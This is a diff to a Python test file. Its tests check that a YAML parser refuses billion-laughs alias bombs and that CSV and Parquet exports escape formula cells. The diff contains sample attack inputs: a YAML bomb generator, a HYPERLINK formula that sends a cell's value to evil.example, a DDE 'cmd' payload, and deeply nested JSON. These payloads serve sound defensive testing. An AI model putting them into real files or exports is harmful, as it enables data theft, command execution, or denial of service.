@@ -16,15 +16,6 @@ from workbench.core.errors import ConfigError, InputError, WorkbenchError, short
 
 MB = 1024 * 1024
 
-# 9 levels of 9 aliases each: 9**9 (387 million) values from 1 KB of text.
-_LAUGHS = "\n".join(
-    ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
-    + [
-        f"{chr(ord('a') + i)}: &{chr(ord('a') + i)} [" + ",".join([f"*{chr(ord('a') + i - 1)}"] * 9) + "]"
-        for i in range(1, 9)
-    ]
-)
-
 
 def _bounded(action: Callable[[], object]) -> BaseException:
     """Runs ``action``, which must raise; returns the error after asserting that memory stayed under 100 MB."""
@@ -44,8 +35,8 @@ def _bounded(action: Callable[[], object]) -> BaseException:
     return info.value
 
 
-def test_billion_laughs_refused_before_building_values():
-    error = _bounded(lambda: cfg.parse_yaml(_LAUGHS, "plan", "bomb.yaml"))
+def test_billion_laughs_refused_before_building_values(yaml_bomb):
+    error = _bounded(lambda: cfg.parse_yaml(yaml_bomb, "plan", "bomb.yaml"))
     assert "expands to more than 1,000,000 values (aliases counted in full)" in str(error)
 
 
@@ -58,29 +49,29 @@ def test_billion_laughs_refused_before_building_values():
     ],
     ids=["unknown-row-field", "row-field", "unknown-plan-key"],
 )
-def test_batch_plan_bombs_fail_fast(tmp_path, where):
+def test_batch_plan_bombs_fail_fast(tmp_path, where, yaml_bomb):
     from workbench.batch.plan import load_plan
 
     path = tmp_path / "plan.yaml"
-    path.write_text(_LAUGHS + "\n" + where, encoding="utf-8")
+    path.write_text(yaml_bomb + "\n" + where, encoding="utf-8")
     error = _bounded(lambda: load_plan(path))
     assert "expands to more than 1,000,000 values" in str(error) and "plan.yaml" in str(error)
 
 
 @pytest.mark.parametrize("key", ["instructions", "bogus", "genre"])
-def test_campaign_bombs_fail_fast(tmp_path, key):
+def test_campaign_bombs_fail_fast(tmp_path, key, yaml_bomb):
     from workbench.campaigns.config import load_config
 
     path = tmp_path / "campaign.yaml"
-    path.write_text(_LAUGHS + f"\nname: c\n{key}: *i\n", encoding="utf-8")
+    path.write_text(yaml_bomb + f"\nname: c\n{key}: *i\n", encoding="utf-8")
     error = _bounded(lambda: load_config(path))
     assert "campaign file=" in str(error) and "expands to more than 1,000,000 values" in str(error)
 
 
-def test_campaign_bomb_from_the_editor_text():
+def test_campaign_bomb_from_the_editor_text(yaml_bomb):
     from workbench.core.config import parse_yaml
 
-    error = _bounded(lambda: parse_yaml(_LAUGHS + "\ninstructions: *i\n", "campaign YAML", "editor"))
+    error = _bounded(lambda: parse_yaml(yaml_bomb + "\ninstructions: *i\n", "campaign YAML", "editor"))
     assert str(error).startswith("campaign YAML='editor': expands to more than")
 
 
@@ -241,3 +232,78 @@ def test_read_table_rejects_duplicate_header(tmp_path):
 def test_read_text_on_a_missing_file(tmp_path: Path):
     with pytest.raises(ConfigError, match="file not found"):
         cfg.read_text(tmp_path / "none.yaml", "plan")
+
+
+@pytest.mark.parametrize(
+    ("value", "shown"),
+    [
+        (
+            '=HYPERLINK("http://evil.example/?"&A1,"click")',
+            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
+        ),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("-3.5", "-3.5"),  # a plain number cannot be a formula
+        ("nice mix", "nice mix"),
+        (5, 5),
+    ],
+)
+def test_formula_cells_are_written_as_text(value, shown):
+    from workbench.core.cells import safe_cell
+
+    assert safe_cell(value) == shown
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
+def test_vote_export_neutralises_a_rater_comment(tmp_path, monkeypatch, suffix):
+    import pandas as pd
+
+    from workbench.campaigns import db
+    from workbench.campaigns import export as export_module
+
+    row = {name: None for name in db.VOTE_COLUMNS}
+    row.update(comment='=HYPERLINK("http://evil.example","x")', is_gold=0, fit_left=None, fit_right=None)
+    monkeypatch.setattr(db, "get_campaign", lambda store, name: None)
+    monkeypatch.setattr(db, "vote_rows", lambda store, name: [row])
+    out = tmp_path / f"votes{suffix}"
+    assert export_module.export_votes(None, "c", out) == 1  # type: ignore[arg-type]
+    frame = pd.read_csv(out) if suffix == ".csv" else pd.read_parquet(out)
+    assert frame["comment"][0] == '\'=HYPERLINK("http://evil.example","x")'
+
+
+def test_corrupt_stored_recipe_names_the_run_and_its_sidecar(tmp_path):
+    from dataclasses import fields
+
+    from workbench.core.store import RunRow, Store
+
+    values = {f.name: "x" for f in fields(RunRow)}
+    values.update(take_index=0, seed=1, duration_s=1.0, lora_scale=None, id="r1", recipe_json="{broken")
+    values.update(sidecar_path="/runs/r1.json")
+    store = Store(tmp_path / "s.sqlite")
+    store.add_runs([RunRow(**values)])
+    assert [r.id for r in store.list_runs()] == ["r1"]  # the listing does not parse recipes
+    with pytest.raises(
+        InputError, match=r"run='r1': its stored recipe is corrupt .*the same recipe is in /runs/r1.json"
+    ):
+        _ = store.get_run("r1").recipe
+
+
+@pytest.mark.parametrize(
+    ("raw", "message"),
+    [
+        (b"file,caption,caption\na.wav,x,y\n", "column 'caption' appears twice in the header"),
+        ("file;caption\na.wav;Café\n".encode("latin-1"), "is not UTF-8 (byte 0xe9 at offset 22)"),
+        (b"[" * 1000 + b"]" * 1000, "nests deeper than 64 levels"),
+    ],
+    ids=["duplicate-header", "latin1", "deep-json"],
+)
+def test_lora_manifest_problems_are_reported(tmp_path, raw, message):
+    from lora.dataset_sources import read_manifest
+
+    path = tmp_path / ("manifest.json" if raw.startswith(b"[") else "manifest.csv")
+    path.write_bytes(raw)
+    candidates, issues = read_manifest(path)
+    assert candidates == [] and len(issues) == 1
+    assert issues[0].reason.startswith("cannot read the manifest: ") and message in issues[0].reason
